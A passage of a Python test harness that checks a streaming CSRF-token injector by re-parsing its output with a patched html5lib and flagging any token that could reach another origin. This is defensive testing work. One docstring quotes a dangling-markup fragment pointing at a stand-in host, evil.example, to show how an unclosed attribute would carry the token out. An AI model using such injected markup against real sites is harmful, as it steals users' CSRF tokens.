            forms = [e for e in self.tree.openElements
                     if e.name == "form" and e.namespace == self.tree.defaultNamespace]
            self.tree.formPointer = forms[-1] if forms else None
            try:
                return orig(self, token)
            finally:
                self.tree.formPointer = saved
        return end

    # a <form> in a table with a template open: the spec ignores it,
    # Chromium inserts it and pops it (the pointer left alone), as here
    for phase, start, end in (("inBody", True, True), ("inTable", True, False)):
        cls = type(parser.phases[phase])
        if cls.__dict__.get("_csrf_template_rules"):
            continue
        # the class-level dispatch tables (dicts of plain functions)
        if start:
            table = cls.__dict__["startTagHandler"]
            dict.__setitem__(table, "form", start_wrap(dict.__getitem__(table, "form")))
        if end:
            table = cls.__dict__["endTagHandler"]
            dict.__setitem__(table, "form", end_wrap(dict.__getitem__(table, "form")))
        cls._csrf_template_rules = True


# The recorder of the page being parsed, for the wrapped moves.
CURRENT = [None]


def patch_moves(builder):
    """Tells the current recorder when html5lib takes nodes out of where
    they are to put them elsewhere (the adoption agency)."""
    el = builder.elementClass
    if el.__dict__.get("_csrf_moves"):
        return
    remove, reparent = el.removeChild, el.reparentChildren

    def remove_child(self, node):
        if CURRENT[0] is not None:
            CURRENT[0].moved([node._element])
        return remove(self, node)

    def reparent_children(self, new_parent):
        if CURRENT[0] is not None:
            CURRENT[0].moved(list(self._element))
        return reparent(self, new_parent)

    def insert_before(self, node, ref_node):
        # the adoption agency's foster parenting into a template (its
        # place: the end of the template, no node to insert before)
        if ref_node is None:
            return self.appendChild(node)
        return insert(self, node, ref_node)

    insert = el.insertBefore
    el.removeChild = remove_child
    el.reparentChildren = reparent_children
    el.insertBefore = insert_before
    el._csrf_moves = True


class Recorder:
    """An html5lib tree builder that records, for every HTML input and
    button it inserts, the form element pointer at that moment, and which
    of them the tree builder later moves away from that form."""

    def __init__(self):
        base = treebuilders.getTreeBuilder("etree")
        patch_moves(base)
        recorder = self

        class Builder(base):
            def insertElementNormal(self, token):
                el = base.insertElementNormal(self, token)
                recorder.note(self, token, el)
                if token["name"] == "base" and template_open(self):
                    # template contents are a fragment of their own
                    el._element.attrib[IN_TEMPLATE] = "1"
                return el

            def getTableMisnestedNodePosition(self):
                # the spec: a template opened after the last table takes
                # foster-parented nodes into its contents
                for el in self.openElements[::-1]:
                    if el.name == "table":
                        break
                    if el.name == "template" and el.namespace == self.defaultNamespace:
                        return el, None
                return base.getTableMisnestedNodePosition(self)

            def insertElementTable(self, token):
                before = len(self.openElements)
                in_template = template_open(self)
                el = base.insertElementTable(self, token)
                if el is None and len(self.openElements) > before:
                    el = self.openElements[-1]
                recorder.note(self, token, el)
                if token["name"] == "base" and in_template and el is not None:
                    el._element.attrib[IN_TEMPLATE] = "1"
                return el

        self.builder = Builder
        # injected fields: [element, owner by the pointer (None: none, or
        # lost when moved), inert, the form the pointer gave it when it was
        # inserted (never cleared), its form="" (the injector's id of a
        # form read deep in the tree) or None]
        self.fields = []
        # submit buttons: [attributes, element, owner by the pointer, fields injected before it]
        self.submitters = []

    def note(self, tree, token, el):
        if el is None or token["name"] not in ("input", "button") or \
                token.get("namespace", tree.defaultNamespace) != tree.defaultNamespace:
            return
        attrs = token["data"]
        inert = template_open(tree)
        if token["name"] == "input" and attrs.get("name") == FIELD and attrs.get("value") == TOKEN:
            pointer = None if inert else tree.formPointer
            self.fields.append([el._element, pointer, inert, None if pointer is None else pointer._element,
                                attrs.get("form")])
            return
        if inert or not is_submit(token["name"], attrs):
            return  # inert, or not a submitter
        owner = None if "form" in attrs else tree.formPointer
        self.submitters.append([attrs, el._element, owner, len(self.fields)])

    def moved(self, roots):
        """The subtrees of roots leave their place to be inserted
        elsewhere: an element among them loses its pointer owner, even when
        that form moves along (browsers reset the owner of an element
        inserted again, as Chromium and Firefox did in the outside
        review's pages; the spec keeps it when both stay in one tree):
        its nearest ancestor form then owns it."""
        inside = set()
        for r in roots:
            inside.update(id(e) for e in r.iter())
        for rec in self.fields:
            if id(rec[0]) in inside:
                rec[1] = None
        for rec in self.submitters:
            if id(rec[1]) in inside:
                rec[2] = None


def is_submit(name, attrs):
    kind = attrs.get("type", "").lower()
    if name == "input":
        return kind in ("submit", "image")
    return kind not in ("button", "reset")


def url_origin(url):
    u = urllib.parse.urlsplit(url)
    if u.scheme not in ("http", "https") or not u.hostname:
        return None
    port = u.port or (443 if u.scheme == "https" else 80)
    return (u.scheme, u.hostname.lower(), port)


def clean_url(s):
    # what the URL parser drops, then backslashes as slashes (special schemes)
    s = s.strip("".join(chr(c) for c in range(0x21)))
    s = s.replace("\t", "").replace("\n", "").replace("\r", "")
    return s.replace("\\", "/")


def resolve(base, url):
    return urllib.parse.urljoin(base, clean_url(url))


IN_TEMPLATE = "\0in-template"


def first_base(el):
    """The first HTML base with an href in tree order, outside templates."""
    if el.tag == "template":
        return None
    if el.tag == "base" and "href" in el.attrib and IN_TEMPLATE not in el.attrib:
        return el
    for child in el:
        found = first_base(child)
        if found is not None:
            return found
    return None


def document_base(root):
    el = first_base(root)
    if el is None:
        return DOC_URL
    href = el.attrib["href"]
    return resolve(DOC_URL, href) if clean_url(href) else DOC_URL


LATE_BASE = 0x0040  # CSRF_INJECT_LATE_BASE
LATE_OWNER = 0x1000  # CSRF_INJECT_LATE_OWNER
LATE_BUTTON = 0x8000  # CSRF_INJECT_LATE_BUTTON


class FormAttrs:
    """An etree form element seen as html5lib's wrapper (its attributes)."""

    def __init__(self, el):
        self.attributes = el.attrib


def nearest_form(parents, el):
    """The nearest HTML form among el's ancestors (None inside a template)."""
    p = parents.get(id(el))
    while p is not None:
        if p.tag == "template":
            return None
        if p.tag == "form":
            return p
        p = parents.get(id(p))
    return None


def by_id(el, ident):
    """The first element in tree order (outside templates) with that id."""
    if el.tag == "template":
        return None
    if el.attrib.get("id") == ident:
        return el
    for child in el:
        found = by_id(child, ident)
        if found is not None:
            return found
    return None


def sends_away(attrs, base, status):
    """What a submit button does to its form: "GET", an origin elsewhere, or None."""
    if "formmethod" in attrs and attrs["formmethod"].lower() not in ("post", "dialog"):
        return "GET"
    if "formaction" in attrs:
        act = attrs["formaction"]
        target = DOC_URL if clean_url(act) == "" else resolve(base, act)
        no_base = DOC_URL if clean_url(act) == "" else resolve(DOC_URL, act)
        # a <base> after the field went in: reported (LATE_BASE), as for actions
        if url_origin(target) != url_origin(SELF) and \
                not (status & LATE_BASE and url_origin(no_base) == url_origin(SELF)):
            return target
    return None

def token_elsewhere(root):
    """Where the token is in the tree other than as an injected field's
    value (an HTML <input name=FIELD>) or the meta pair's content: inside
    another element's attribute (a value an attacker's markup left open
    would carry it away: <img src='//evil.example/?...), in text, raw
    text or a comment. The owner checks see only the fields the tree
    has; a token the tree holds elsewhere is not one of them."""
    found = []
    for el in root.iter():
        tag = el.tag if isinstance(el.tag, str) else "a comment"
        for k, v in el.attrib.items():
            if TOKEN not in v:
                continue
            if tag == "input" and k == "value" and v == TOKEN and el.attrib.get("name") == FIELD:
                continue
            if tag == "meta" and k == "content" and v == TOKEN and el.attrib.get("name") == "csrf-token":
                continue
            found.append("the token in the attribute %s of %s" % (k, tag))
        for text, where in ((el.text, "in"), (el.tail, "after")):
            if text and TOKEN in text:
                found.append("the token in text %s %s" % (where, tag))
    return found


# Leaks html5lib alone cannot decide (see leaks()).
UNDECIDED = []


def leaks(html, scripting, status):
    rec = Recorder()
    parser = html5parser.HTMLParser(tree=rec.builder, namespaceHTMLElements=False)
    patch_templates(parser)
    CURRENT[0] = rec
    try:
        doc = parser.parse(html, scripting=scripting)
    finally:
        CURRENT[0] = None
    root = doc.getroot() if hasattr(doc, "getroot") else doc
    parents = {id(c): p for p in root.iter() for c in p}
    base = document_base(root)
    found = token_elsewhere(root)
    owned_self = 0
    # each field's owner in the final tree: its pointer's form while it
    # stayed with it, else its nearest ancestor form
    # A field with form="X" (the injector's id of a form read deep in
    # the tree) is owned by the first element with id X, when that is a
    # form, wherever the field is.
    def field_owner(el, owner, inert, named):
        if inert:
            return None
        if named is not None:
            f = by_id(root, named)
            return f if f is not None and f.tag == "form" else None
        return owner._element if owner is not None else nearest_form(parents, el)
    owners = [field_owner(el, owner, inert, named) for el, owner, inert, _, named in rec.fields]
    # The injector's promise: the field is a child of its form, so that
    # wherever the tree builder moves things its nearest ancestor form is
    # that form (a field owned through the pointer alone, as after a <form>
    # the "in table" mode inserts and pops at once, is handed to another
    # form when the adoption agency or foster parenting moves it).
    # A field the tree builder took out of the document with its form
    # (a <frameset> while frameset-ok holds removes the whole body: a form
    # and its hidden field leave it "ok") is in no document: no submitter
    # can send it, and no form is its ancestor here.
    in_tree = {id(e) for e in root.iter()}
    for (el, _, inert, first, named), form_el in zip(rec.fields, owners):
        if inert or first is None:
            continue
        if named is not None:
            # pinned by form="": owned by the form it went into, by id
            if form_el is not first:
                found.append("a field whose form=\"%s\" names another element than its form" % named)
            continue
        if id(el) not in in_tree and id(first) not in in_tree:
            continue
        p = parents.get(id(el))
        while p is not None and p is not first:
            p = parents.get(id(p))
        if p is None:
            found.append("a field that is not a descendant of its form (%s)" %
                         (first.attrib.get("action", "no action")))
    for attrs, el, owner, fields_before in rec.submitters:
        if "form" in attrs:
            named = by_id(root, attrs["form"])
            owner_el = named if named is not None and named.tag == "form" else None
        elif owner is not None:
            owner_el = owner._element
        else:
            owner_el = nearest_form(parents, el)
        if owner_el is None or not any(f is owner_el for f in owners):
            continue
        away = sends_away(attrs, base, status)
        if away is None:
            continue
        # the field went in before this button: a stream cannot take it back
        late = any(f is owner_el for f in owners[:fields_before])
        if late and "form" in attrs and status & LATE_OWNER:
            continue
        if late and "form" not in attrs and owner is None and status & LATE_BUTTON:
            continue
        found.append("a submitter sending it to " + away)
    for form_el in owners:
        if form_el is None:
            continue
        form = FormAttrs(form_el)
        method = form.attributes.get("method", "")
        if method.lower() != "post":
            found.append("GET (the form's own method)")
            continue
        action = form.attributes.get("action")
        target = DOC_URL if action is None or clean_url(action) == "" else resolve(base, action)
        if url_origin(target) != url_origin(SELF):
            # A <base> after the form got its token: the stream cannot take
            # it back. Allowed only when the injector reported it (the
            # adapters' CSP base-uri is the backstop).
            no_base = DOC_URL if action is None or clean_url(action) == "" else resolve(DOC_URL, action)
            if status & LATE_BASE and url_origin(no_base) == url_origin(SELF):
                continue
            if url_origin(no_base) == url_origin(SELF) and "<template" in html.lower():
                # Only a <base> sends it elsewhere, and the page has a
                # template: a <base> a browser keeps in the template that
                # the oracle's model of template contents let out (none
                # seen since the "in template" mode came, in 15,000
                # pages). Counted, not judged (main() fails when they are
                # many).
                UNDECIDED.append(target)
                continue
            found.append(target)
        else:
            owned_self += 1
    return found, owned_self


def page_stream(seed, count):
    """The pages of a run, in order: (n, label, page, cut rng), n the
    page's number (random pages keep theirs of before the regressions
    came; -1 for the others). The cuts are drawn from the cut rng as each
    page comes (page_cuts), so a seed's pages and cuts stay the same;
    dom_pages.py reads the same stream."""
    rng = random.Random(seed)
    fixed = len(FIXED)
    # the extra pages' own rng, for their pages and cuts
    xrng = random.Random("extra %d" % seed)
    for k in range(fixed + len(REGRESSIONS) + count):
        if k < fixed:
            yield k, "page %d" % k, FIXED[k], rng
        elif k < fixed + len(REGRESSIONS):
            yield -1, "regression %d" % (k - fixed), REGRESSIONS[k - fixed], random.Random(k)
        else:
            n = k - len(REGRESSIONS)
            yield n, "page %d" % n, make_page(rng), rng
            if (n - fixed) % 4 == 3:
                x = (n - fixed) // 4
                yield -1, "extra page %d" % x, make_extra_page(xrng), xrng


def page_cuts(page, cut_rng):
    """Where the driver splits page (bytes), from its cut rng."""
    return sorted(cut_rng.sample(range(1, len(page)), min(len(page) - 1, cut_rng.randint(0, 8))))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("driver")
    ap.add_argument("--pages", type=int, default=3000)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--report", type=int, default=0, help="print progress every N pages")
    args = ap.parse_args()
    for k, out in enumerate(MUST_FLAG):
        for scripting in (True, False):
            if not leaks(out, scripting, 0)[0]:
                print("must-flag page %d (scripting %s): the oracle found no leak in a wrong placement" %
                      (k, "on" if scripting else "off"))
                print("output: " + out)
                return 1
    drv = subprocess.Popen([args.driver], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    pages_with_token = tokens = owned = extras = 0

    for n, label, page, cut_rng in page_stream(args.seed, args.pages):
        extras += label.startswith("extra")
        page = page.encode("latin-1")
        cuts = page_cuts(page, cut_rng)
        drv.stdin.write(("%d %d %s\n" % (len(page), len(cuts), " ".join(map(str, cuts)))).encode())
        drv.stdin.write(page)
        drv.stdin.flush()
        head = drv.stdout.readline().decode()
        if head.startswith("ERR") or not head:
            print("%s: driver: %s" % (label, head.strip() or "no answer"))
            print(page.decode("latin-1"))
            return 1
        out_len, count, status = (int(x) for x in head.split())
        out = drv.stdout.read(out_len).decode("latin-1")
        if 0 <= n < len(LEGIT) and (count != 1 or status != 0):
            print("%s: a form in an ordinary table layout lost its token (count %d, status %#x)" %
                  (label, count, status))
            print("input:  " + page.decode("latin-1"))
            return 1
        if count:
            pages_with_token += 1
            tokens += count
        for scripting in (True, False):
            bad, good = leaks(out, scripting, status)
            if bad:
                print("%s (seed %d, scripting %s): an injected field leaks: %s" %
                      (label, args.seed, "on" if scripting else "off", bad[0]))
                print("input:  " + page.decode("latin-1"))
                print("output: " + out)
                return 1
            owned += good
        if args.report and n >= 0 and (n + 1) % args.report == 0:
            print("%d pages, %d with a token" % (n + 1, pages_with_token), flush=True)
    drv.stdin.close()
    if drv.wait() != 0:
        print("the driver failed (exit %d)" % drv.returncode)
        return 1
    print("html5lib differential: %d pages and %d extra ones (template column groups, framesets), %d with a "
          "token, %d tokens, %d same-origin owners (scripting on and off), 0 leaks, %d owners left undecided (a "
          "<base> html5lib may have taken out of a template)" %
          (args.pages, extras, pages_with_token, tokens, owned, len(UNDECIDED)))
    if len(UNDECIDED) * 100 > args.pages:
        print("more than 1%% of the pages undecided: the oracle no longer judges enough of them")
        return 1
    # not vacuous: a good share of pages must still get their token
    if pages_with_token < args.pages // 5 or owned == 0:
        print("too few pages got a token: the test would prove nothing")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
